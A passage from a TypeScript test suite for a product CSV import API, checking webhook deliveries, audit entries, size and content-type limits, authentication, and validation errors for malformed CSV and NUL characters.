      test('created and changed products are in the audit log and sent to the webhooks subscribed to them', async () => {
        const me = await owner();
        const hook = await call(t, 'POST', '/webhooks', {
          ...me.as,
          body: { url: 'http://127.0.0.1:9/hook', events: ['product.created', 'product.updated'] },
        });
        assert.equal(hook.statusCode, 201, hook.body);
        const header = ['handle', 'title', 'currency', 'sku', 'price', 'quantity'];
        const rows = [
          { handle: 'a', title: 'A', currency: 'USD', sku: 'W-A', price: '1', quantity: '1' },
          { handle: 'b', title: 'B', currency: 'USD', sku: 'W-B', price: '1', quantity: '1' },
        ];
        await me.importCsv(table(header, rows));
        await me.importCsv(table(header, [rows[0]!, { ...rows[1]!, price: '2' }]));
        const sent = await selectRows<{ type: string; title: string; price: string }>(
          t.database,
          sql`select event_type as type, payload->'data'->'product'->>'title' as title, payload->'data'->'product'->>'price' as price
              from webhook_deliveries where endpoint_id = ${hook.json().data.id} order by id`,
        );
        assert.deepEqual(sent, [
          { type: 'product.created', title: 'A', price: '1.00' },
          { type: 'product.created', title: 'B', price: '1.00' },
          { type: 'product.updated', title: 'B', price: '2.00' },
        ]);
        assert.deepEqual(await auditActions(me.workspace.id), ['product.created', 'product.created', 'product.updated']);
      });

      test("the OpenAPI document's example imports", async () => {
        const me = await owner();
        const document = (await t.app.inject({ method: 'GET', url: `${API}/openapi.json` })).json();
        const description: string = document.paths['/api/v1/products/import'].post.description;
        const example = /```csv\n([\s\S]*?)```/.exec(description)![1]!;
        const response = await me.importCsv(example);
        assert.deepEqual(madeAndChanged(response.json()), { created: 2, updated: 0 });
      });

      test('a body over 50 MB is 413 and writes nothing', async () => {
        const me = await owner();
        const line = `${'x'.repeat(1023)}\n`;
        async function* body() {
          yield 'handle,title,currency,sku,price,quantity\n';
          for (let i = 0; i < 51 * 1024; i++) yield line;
        }
        const response = await me.importCsv(Readable.from(body()));
        assert.equal(response.statusCode, 413);
        assert.deepEqual(response.json(), errorBody(413, 'Payload too large'));
        assert.equal((await snapshot(me.workspace.id)).products.length, 0);
      });

      test('a body that is not text/csv is 415, and no credentials 401', async () => {
        const me = await owner();
        const json = await me.importCsv('{"title":"x"}', 'application/json');
        assert.equal(json.statusCode, 415);
        assert.deepEqual(json.json(), errorBody(415, 'Unsupported media type: send text/csv'));
        const anonymous = await t.app.inject({
          method: 'POST',
          url: `${API}/products/import`,
          headers: { 'content-type': 'text/csv' },
          payload: 'handle\n',
        });
        assert.equal(anonymous.statusCode, 401);
      });

      test('a file that is not valid CSV is 422 on the line where reading stopped', async () => {
        const me = await owner();
        const response = await me.importCsv('handle,title,currency,sku,price,quantity\nh,"Unclosed,USD,S-1,1,1\n');
        assert.equal(response.statusCode, 422);
        assert.deepEqual(response.json().errors, { 'line 2.row': ['The file is not valid CSV: a quoted cell is never closed.'] });
        const later = await me.importCsv(
          'handle,title,currency,sku,price,quantity\na,A,USD,S-1,1,1\nb,B,USD,S-2,1,1\nc,C "x",USD,S-3,1,1\n',
        );
        assert.deepEqual(Object.keys(later.json().errors), ['line 4.row']);
        assert.equal((await me.get('/products')).json().meta.total, 0);
      });

      test('a sku cell with a NUL character is 422 on its cell, not a 500, and nothing is stored', async () => {
        const me = await owner();
        const response = await me.importCsv('handle,title,currency,sku,price,quantity\nh,T,EUR,\u0000,1.00,1\n');
        assert.equal(response.statusCode, 422, response.body);
        assert.deepEqual(Object.keys(response.json().errors), ['line 2.sku']);
        assert.equal((await me.get('/products')).json().meta.total, 0);
      });
    });
  });
}
